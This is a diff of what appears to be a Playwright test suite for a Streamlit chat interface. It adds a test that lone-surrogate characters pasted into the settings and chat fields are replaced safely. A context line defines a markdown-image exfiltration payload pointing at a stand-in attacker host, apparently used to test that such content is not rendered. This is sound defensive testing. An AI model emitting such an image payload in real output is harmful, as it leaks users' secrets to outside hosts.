@@ -171,6 +171,40 @@ async def test_what_cannot_be_read_is_said_and_not_sent(
     await expect(page.not_asked()).to_have_count(0)
 
 
+PASTE = """(field, text) => {
+    field.focus();
+    const type = field instanceof HTMLTextAreaElement ? HTMLTextAreaElement : HTMLInputElement;
+    Object.getOwnPropertyDescriptor(type.prototype, "value").set.call(field, text);
+    field.setSelectionRange(2, 2);
+    field.dispatchEvent(new InputEvent("input", {bubbles: true, inputType: "insertFromPaste"}));
+    return [field.value, field.selectionStart];
+}"""
+
+
+async def test_half_of_a_character_can_be_pasted_anywhere(chat: Open, service: FakeService) -> None:
+    """Streamlit closes its connection when it is sent one, and the tab could do nothing any more."""
+    page = await chat()
+    await page.choose("fake-2")
+    await page.open_settings()
+    system = page.tab.get_by_label("System instruction", exact=True)
+    assert await system.evaluate(PASTE, "a\ud83d b \ud83d\ude00") == ["a\ufffd b \U0001f600", 2]
+    await system.press("Control+Enter")
+    stops = page.tab.get_by_role("combobox", name="Stop sequences")
+    await stops.fill("END")
+    assert await stops.evaluate(PASTE, "\ude00END") == ["\ufffdEND", 2]
+    await stops.press("Enter")
+    await expect(page.tab.get_by_text("\ufffdEND", exact=True)).to_be_visible()
+    await stops.press("Escape")
+    await page.settled()
+    await page.input.evaluate(PASTE, "What is \ud83d?")
+    await page.input.press("Enter")
+    await expect(page.answer()).to_contain_text("tokens in")
+    (asked,) = service.requests
+    assert asked.system_instruction == "a\ufffd b \U0001f600"
+    assert asked.config.stop_sequences == ["\ufffdEND"]
+    assert list(asked.messages) == [user("What is \ufffd?")]
+
+
 HOSTILE = "![x](http://attacker.example/?q=secret) :material/home: $x$"
 
 
